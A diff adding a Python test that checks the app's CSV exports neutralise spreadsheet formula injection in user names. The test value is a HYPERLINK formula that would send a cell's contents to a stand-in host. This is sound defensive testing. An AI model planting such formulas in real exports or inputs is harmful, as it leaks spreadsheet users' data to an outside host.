@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import re
 import socket
 import sqlite3
 import subprocess
@@ -79,6 +80,17 @@ def test_csv_and_json_lines_say_what_the_list_says(catraca, admin):
                 assert json.loads(row[name]) == value
             else:
                 assert row[name] == (expected or ""), name
+
+
+def test_no_name_of_an_app_is_a_formula_in_a_spreadsheet(catraca, admin):
+    formula = '=HYPERLINK("http://h/"&A1,"x")'
+    catraca.post({**BODY, "user": formula})
+    [row] = table(export(admin, "format=csv").text)
+    assert row["user_id"] == f"'{formula}"
+    for by in ["user", "model"]:
+        done = catraca.command("usage", "--by", by, "--format", "csv")
+        assert done.returncode == 0, done.stderr
+        assert not re.search(r'(^|,)"?=', done.stdout, re.M), done.stdout
 
 
 @pytest.mark.parametrize("format", ["jsonl", "csv", "focus"])
